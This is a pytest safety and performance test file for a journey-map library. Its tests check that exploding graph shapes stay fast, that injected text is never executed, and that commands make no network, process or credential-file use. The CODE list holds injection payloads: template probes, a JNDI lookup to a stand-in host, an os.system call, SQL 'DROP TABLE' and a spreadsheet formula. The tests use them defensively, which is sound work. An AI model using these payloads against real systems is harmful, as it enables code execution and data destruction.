"""Running: no shape of a map makes its graph, its picture or its answers explode, and nothing of it is code."""

from __future__ import annotations

import sys
import time
from contextlib import suppress
from typing import TYPE_CHECKING, Final

import pytest

import journeymap as jm
from journeymap.app.exchanging import EXPORTS
from journeymap.app.rendering import VIEW_NAMES
from journeymap.diagnostics import Source
from journeymap.errors import TooLargeError
from journeymap.graph import query
from journeymap.language import encode, read_text
from tests.functional.command import run_python
from tests.property.test_builder import say
from tests.safety.inputs import ROOT


if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from journeymap.model import JourneyMap


def read(text: str) -> JourneyMap:
    """Read a map that has no error."""
    result = read_text(Source("m.journey.yaml", text))
    found, findings = result.map, result.diagnostics
    assert [str(finding) for finding in findings if finding.is_error] == []
    assert found is not None
    return found


def of_steps(steps: dict[str, str], rest: str = "") -> JourneyMap:
    """Read a map of touchpoints with these fields."""
    lines = "".join(f"      {name}: {{{fields}}}\n" for name, fields in steps.items())
    return read(f"title: Shop\nstages:\n  pay:\n    touchpoints:\n{lines}{rest}")


def diamonds(count: int = 60) -> JourneyMap:
    """Make a chain of forks that join again: two to the power of `count` paths."""
    steps = {}
    for number in range(count):
        steps[f"f{number}"] = f"next: [a{number}, b{number}]"
        steps[f"a{number}"] = steps[f"b{number}"] = f"next: f{number + 1}"
    return of_steps(steps | {f"f{count}": "outcome: completed"})


def clique(count: int = 40) -> JourneyMap:
    """Make steps that all lead to each other: more circles than anybody can list."""
    return of_steps(
        {f"s{number}": f"next: [{', '.join(f's{other}' for other in range(count))}]" for number in range(count)}
    )


def parallel(count: int = 12) -> JourneyMap:
    """Make paths side by side that join, again and again."""
    steps = {}
    for number in range(count):
        steps[f"f{number}"] = f"next: {{all: [a{number}, b{number}, c{number}]}}"
        steps |= {f"{letter}{number}": f"next: f{number + 1}" for letter in "abc"}
    return of_steps(steps | {f"f{count}": "outcome: completed"})


def mesh(count: int = 40) -> JourneyMap:
    """Make processes of which each needs all others, and a step that relies on all of them."""
    names = [f"p{number}" for number in range(count)]
    rest = "processes:\n" + "".join(
        f"  {name}: {{lane: backstage, duration: 1h, needs: [{', '.join(each for each in names if each != name)}]}}\n"
        for name in names
    )
    return of_steps({"till": f"backstage: [{', '.join(names)}]"}, rest)


def ring(count: int = 2_000) -> JourneyMap:
    """Make steps in a circle, deeper than Python may call."""
    return of_steps({f"s{number}": f"next: s{(number + 1) % count}" for number in range(count)})


def ladder(count: int = 2_000) -> JourneyMap:
    """Make a chain of processes, deeper than Python may call."""
    rest = "processes:\n" + "".join(
        f"  p{number}: {{lane: backstage, duration: 1h{f', needs: [p{number + 1}]' if number + 1 < count else ''}}}\n"
        for number in range(count)
    )
    return of_steps({"till": "backstage: [p0]"}, rest)


SHAPES: Final = (diamonds, clique, parallel, mesh, ring, ladder)


def ask_everything(found: JourneyMap) -> None:
    """Ask a map every question that there is."""
    compiled = jm.compile_map(found)
    first = next(iter(found.touchpoints))
    key = f"touchpoint:{first.id}"
    for ask in (query.coverage, query.unused, query.work_times, query.entries, query.recoveries, query.unreachable):
        ask(compiled)
    for ask in (query.dead_ends, query.forks, query.loops, query.without_outcome, query.traffic):
        ask(compiled)
    query.critical_path(compiled, key)
    query.needed(compiled, key)
    query.relies_on(compiled, key)
    if "outcome:completed" in compiled.graph:
        query.unavoidable(compiled, "outcome:completed")
        query.shortest_path(compiled, "outcome:completed")


@pytest.mark.parametrize("make", SHAPES, ids=lambda make: make.__name__)
def test_no_shape_makes_an_answer_explode(make: Callable[[], JourneyMap]) -> None:
    """Exponentially many paths or circles, and chains deeper than Python may call, cost a moment."""
    found = make()
    began = time.process_time()
    ask_everything(found)
    # They take a tenth of a second; what lists all paths would not end at all.
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    "view", [pytest.param(name, marks=pytest.mark.needs_graphviz if name == "flow" else ()) for name in VIEW_NAMES]
)
@pytest.mark.parametrize("make", [diamonds, clique, parallel, mesh], ids=lambda make: make.__name__)
def test_no_shape_makes_a_picture_explode(make: Callable[[], JourneyMap], view: str) -> None:
    """The picture of each is drawn, and is no larger than what is in it; or refused at once, where others place it."""
    found = make()
    began = time.process_time()
    picture = b""
    with suppress(TooLargeError):
        picture = jm.render(found, view=view)
    assert time.process_time() - began < 20
    assert len(picture) < 10_000_000


def test_links_side_by_side_are_kept() -> None:
    """A graph has one edge between two nodes; two paths with conditions are two branches of it."""
    found = of_steps({"a": "next: [{to: b, when: cash, share: 40%}, {to: b, when: card, share: 60%}]", "b": ""})
    edge = jm.compile_map(found).graph.edges["touchpoint:a", "touchpoint:b"]
    assert [(branch.when, branch.share) for branch in edge["branches"]] == [("cash", 0.4), ("card", 0.6)]


MAPS: Final = sorted(path for path in (ROOT / "examples").rglob("*.journey.yaml") if path.parent.name != "shared")


@pytest.mark.parametrize("path", MAPS, ids=lambda path: path.stem)
def test_both_roads_give_the_same_bytes(path: Path) -> None:
    """What a file says and what Python says is the same map, with the same graph and the same pictures."""
    found = jm.load(path)
    built = say(encode(found)).build()
    assert built == found
    assert EXPORTS["graphml"](built) == EXPORTS["graphml"](found)
    assert EXPORTS["yaml"](built) == EXPORTS["yaml"](found)
    assert jm.render(built) == jm.render(found)


CODE: Final = (
    "{{ ''.__class__.__mro__ }}",
    "{0.__class__.__init__.__globals__}",
    "%(x)s %n %s",
    "${jndi:ldap://a.example/x}",
    "<%= 1 %>",
    "#{7*7}",
    "\\g<0> \\1 $1",
    "__import__('os').system('touch owned')",
    "'; DROP TABLE maps; --",
    "=cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", CODE)
def test_no_text_is_code(text: str, tmp_path: Path) -> None:
    """Templates, formats, patterns, formulas and statements come out as they went in."""
    quoted = "'" + text.replace("'", "''") + "'"
    found = of_steps({"till": f"name: {quoted}, thinks: {quoted}, pains: [{quoted}]"})
    assert found.touchpoints[0].name == text
    assert jm.compile_map(found).graph.nodes["touchpoint:till"]["name"] == text
    assert list(tmp_path.iterdir()) == []


# A map cannot make the program use the network, start another program or read another file.
WATCHED: Final = """
import sys
seen = []
def hook(event, args):
    if event.startswith(("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.system", "os.startfile")):
        seen.append((event, str(args)[:80]))
    if event == "open" and isinstance(args[0], str) and ("passwd" in args[0] or "secret" in args[0]):
        seen.append((event, args[0]))
sys.addaudithook(hook)
from journeymap.cli import main
statuses = [main([command, "shop.journey.yaml", *rest]) for command, *rest in COMMANDS]
assert statuses == [0] * len(COMMANDS), statuses
assert seen == [], seen
"""


def test_no_network_and_no_other_program(tmp_path: Path) -> None:
    """Python itself reports every socket, process and file; reading, showing, drawing and exporting use none."""
    (tmp_path / "secret").write_text("x")
    (tmp_path / "shop.journey.yaml").write_text(
        "title: Shop\nlinks: {Board: 'https://example.org/x.png'}\n"
        "stages: {pay: {touchpoints: {till: {name: '<img src=secret>', notes: '![](secret) file:///etc/passwd'}}}}\n"
    )
    commands = [
        ("check",),
        ("show",),
        ("render", "-o", "a.svg"),
        ("render", "-o", "a.dot"),
        ("export", "--to", "json", "-o", "a.json"),
        ("export", "--to", "graphml", "-o", "a.graphml"),
    ]
    result = run_python("-c", f"COMMANDS = {commands!r}\n{WATCHED}", cwd=tmp_path)
    assert (result.status, result.err) == (0, "")


LIMITED: Final = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
import journeymap as jm
found = jm.loads("{title: Shop, stages: {pay: {touchpoints: [till, door]}}}")
sys.stdout.buffer.write(jm.render(found, view="flow"))
"""


@pytest.mark.needs_dot
@pytest.mark.skipif(sys.platform != "linux", reason="limits of memory are those of Linux")
def test_a_lower_limit_of_memory_is_kept(tmp_path: Path) -> None:
    """Where a shell allows less memory than we allow Graphviz, drawing works within that."""
    result = run_python("-c", LIMITED, cwd=tmp_path)
    assert (result.status, result.err) == (0, "")
    assert result.out.startswith(b"<svg")
